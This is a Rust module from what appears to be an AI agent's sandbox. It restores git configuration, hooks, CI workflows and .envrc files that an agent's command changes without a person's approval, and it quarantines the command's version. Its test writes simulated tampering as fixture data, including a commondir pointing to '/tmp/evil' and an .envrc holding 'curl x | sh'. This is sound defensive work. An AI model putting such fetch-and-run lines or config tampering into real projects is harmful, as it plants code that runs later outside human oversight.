//! What a command may not change without a person's word, checked after it ran: the
//! sandbox keeps what exists of git's control files read-only, but a file that is not
//! there yet (a `commondir` pointing git at an agent's copy of its configuration, a
//! `config.worktree`, a new `.envrc` or CI workflow) cannot be covered by a mount. So
//! the files that make code run later ([`Engine::guarded`]) are read before a command
//! and again after it; what it created, changed or removed among them is put back and
//! the command's version kept aside in `.air/local/quarantine/<command_run_id>/`,
//! unless a person allowed that write (or another agent's allowed write made it).
//!
//! Bounded: a few hundred files of at most 1 MiB each are kept in memory per
//! command.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::permission::Engine;

/// Files the guard keeps at most.
const MOST_FILES: usize = 512;
/// A file larger than this is compared by its size and time only, and not put back.
const MOST_BYTES: u64 = 1024 * 1024;
/// Depth of a guarded directory read.
const MOST_DEPTH: usize = 4;

#[derive(Clone, Debug, PartialEq, Eq)]
enum Seen {
    Missing,
    File {
        bytes: Vec<u8>,
        mode: u32,
    },
    /// Too large to keep: its size and modification time.
    Large {
        len: u64,
        modified: Option<std::time::SystemTime>,
    },
    Link(PathBuf),
    Dir,
    /// A FIFO, socket or device.
    Special,
}

fn seen(path: &Path) -> Seen {
    use std::io::Read as _;
    use std::os::unix::fs::PermissionsExt as _;
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return Seen::Missing;
    };
    let t = meta.file_type();
    if t.is_symlink() {
        return Seen::Link(std::fs::read_link(path).unwrap_or_default());
    }
    if t.is_dir() {
        return Seen::Dir;
    }
    if !t.is_file() {
        return Seen::Special;
    }
    if meta.len() > MOST_BYTES {
        return Seen::Large {
            len: meta.len(),
            modified: meta.modified().ok(),
        };
    }
    let mut bytes = Vec::new();
    let read = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
        .and_then(|f| f.take(MOST_BYTES + 1).read_to_end(&mut bytes));
    match read {
        Ok(_) => Seen::File {
            bytes,
            mode: meta.permissions().mode() & 0o7777,
        },
        Err(_) => Seen::Special,
    }
}

use std::os::unix::fs::OpenOptionsExt as _;

/// The guarded files under `paths` as they are now: each path, and what a directory
/// holds (bounded).
fn collect(paths: &[PathBuf]) -> BTreeMap<PathBuf, Seen> {
    let mut out = BTreeMap::new();
    let mut queue: Vec<(PathBuf, usize)> = paths.iter().map(|p| (p.clone(), 0)).collect();
    while let Some((p, depth)) = queue.pop() {
        if out.len() >= MOST_FILES {
            break;
        }
        let s = seen(&p);
        if s == Seen::Dir && depth < MOST_DEPTH {
            if let Ok(rd) = std::fs::read_dir(&p) {
                queue.extend(rd.flatten().take(MOST_FILES).map(|e| (e.path(), depth + 1)));
            }
        }
        out.insert(p, s);
    }
    out
}

/// The guarded files before a command.
#[derive(Debug)]
pub struct Guard {
    roots: Vec<PathBuf>,
    before: BTreeMap<PathBuf, Seen>,
}

impl Guard {
    /// Reads what `engine` guards now; `isolated` says whether the command's namespace
    /// keeps air's own configuration read-only (then it is not read here).
    pub fn take(engine: &Engine, isolated: bool) -> Guard {
        let roots = engine.guarded(!isolated);
        let before = collect(&roots);
        Guard { roots, before }
    }

    /// After the command: every guarded file it created, changed or removed is put
    /// back, unless `allowed` says a person allowed that write; the command's version
    /// goes to `quarantine`. Returns a note for each, for the command's answer.
    pub fn settle(
        &self,
        root: &Path,
        quarantine: &Path,
        allowed: impl Fn(&Path) -> bool,
    ) -> Vec<String> {
        let after = collect(&self.roots);
        let mut notes = Vec::new();
        let mut paths: Vec<&PathBuf> = self.before.keys().chain(after.keys()).collect();
        paths.sort();
        paths.dedup();
        // Deepest first: a directory the command made goes after what is in it.
        paths.reverse();
        for path in paths {
            let was = self.before.get(path).unwrap_or(&Seen::Missing);
            let now = after.get(path).unwrap_or(&Seen::Missing);
            if was == now || allowed(path) {
                continue;
            }
            // A directory that stayed a directory: its files are judged one by one.
            if *was == Seen::Dir && *now == Seen::Dir {
                continue;
            }
            let shown = path
                .strip_prefix(root)
                .map(|p| p.display().to_string())
                .unwrap_or_else(|_| path.display().to_string());
            let kept = if *now == Seen::Missing {
                None
            } else {
                set_aside(path, root, quarantine)
            };
            let put_back = restore(path, was);
            let what = match (was, now) {
                (Seen::Missing, _) => "created",
                (_, Seen::Missing) => "removed",
                _ => "changed",
            };
            let mut note = format!(
                "the command {what} {shown}, which decides what runs later (git's configuration, hooks or where it looks, an editor's or CI's, air's): "
            );
            match put_back {
                Ok(()) if *was == Seen::Missing => note.push_str("taken away"),
                Ok(()) => note.push_str("put back as it was"),
                Err(e) => note.push_str(&format!("could not be put back ({e})")),
            }
            if let Some(k) = kept {
                note.push_str(&format!(
                    "; the command's version is kept in {}",
                    k.display()
                ));
            }
            note.push_str("; a person confirms such a change first (code_config): ask with fs_write or a command that names it");
            notes.push(note);
        }
        notes
    }
}

/// Moves what the command left at `path` into `quarantine`, keeping its place under
/// the project (or its absolute path outside it).
fn set_aside(path: &Path, root: &Path, quarantine: &Path) -> Option<PathBuf> {
    let rel = path
        .strip_prefix(root)
        .map(Path::to_path_buf)
        .unwrap_or_else(|_| path.strip_prefix("/").unwrap_or(path).to_path_buf());
    let to = quarantine.join(rel);
    std::fs::create_dir_all(to.parent()?).ok()?;
    match std::fs::rename(path, &to) {
        Ok(()) => Some(to),
        Err(_) => {
            // Another file system: copy what it is, then take it away.
            let meta = std::fs::symlink_metadata(path).ok()?;
            if meta.is_file() {
                std::fs::copy(path, &to).ok()?;
                std::fs::remove_file(path).ok()?;
                Some(to)
            } else {
                None
            }
        }
    }
}

/// Puts `path` back as it was (a file written anew by rename, a link made again); a
/// file that was not there is removed.
fn restore(path: &Path, was: &Seen) -> Result<(), String> {
    use std::os::unix::fs::PermissionsExt as _;
    let clear = |p: &Path| -> Result<(), String> {
        match std::fs::symlink_metadata(p) {
            Err(_) => Ok(()),
            Ok(m) if m.is_dir() => std::fs::remove_dir_all(p).map_err(|e| e.to_string()),
            Ok(_) => std::fs::remove_file(p).map_err(|e| e.to_string()),
        }
    };
    match was {
        Seen::Missing => clear(path),
        Seen::File { bytes, mode } => {
            clear(path)?;
            let tmp = path.with_file_name(format!(
                ".{}.air-restore",
                path.file_name()
                    .map(|n| n.to_string_lossy())
                    .unwrap_or_default()
            ));
            std::fs::write(&tmp, bytes)
                .and_then(|()| {
                    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(*mode))
                })
                .and_then(|()| std::fs::rename(&tmp, path))
                .map_err(|e| {
                    let _ = std::fs::remove_file(&tmp);
                    e.to_string()
                })
        }
        Seen::Link(target) => {
            clear(path)?;
            std::os::unix::fs::symlink(target, path).map_err(|e| e.to_string())
        }
        Seen::Dir => std::fs::create_dir_all(path).map_err(|e| e.to_string()),
        Seen::Large { .. } | Seen::Special => Err("it was too large or not a regular file".into()),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn what_a_command_made_of_git_and_ci_config_is_put_back() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(root.join(".github/workflows")).unwrap();
        std::fs::write(root.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
        std::fs::write(root.join("src.rs"), "fn main() {}\n").unwrap();
        let engine = Engine::new(
            &root,
            None,
            None,
            air_proto::plan::PermissionMode::Default,
            &Default::default(),
        )
        .unwrap();
        let guard = Guard::take(&engine, true);
        // What a command does: git pointed elsewhere, a hook, a workflow changed, an
        // .envrc made, the project's own code changed.
        std::fs::write(root.join(".git/commondir"), "/tmp/evil\n").unwrap();
        std::fs::write(root.join(".git/hooks/post-commit"), "#!/bin/sh\n").unwrap();
        std::fs::write(
            root.join(".github/workflows/ci.yml"),
            "on: push\nrun: evil\n",
        )
        .unwrap();
        std::fs::write(root.join(".envrc"), "curl x | sh\n").unwrap();
        std::fs::write(root.join("src.rs"), "fn main() { evil() }\n").unwrap();
        let q = root.join(".air/local/quarantine/c1");
        let notes = guard.settle(&root, &q, |p| p.ends_with(".envrc"));
        assert_eq!(notes.len(), 3, "{notes:#?}");
        assert!(!root.join(".git/commondir").exists());
        assert!(!root.join(".git/hooks/post-commit").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".github/workflows/ci.yml")).unwrap(),
            "on: push\n"
        );
        assert_eq!(
            std::fs::read_to_string(q.join(".github/workflows/ci.yml")).unwrap(),
            "on: push\nrun: evil\n"
        );
        assert!(q.join(".git/commondir").exists());
        // What a person allowed stays, and the project's own code is not guarded.
        assert!(root.join(".envrc").exists());
        assert!(std::fs::read_to_string(root.join("src.rs"))
            .unwrap()
            .contains("evil"));
        assert!(
            notes.iter().any(|n| n.contains("created .git/commondir")),
            "{notes:#?}"
        );
    }
}
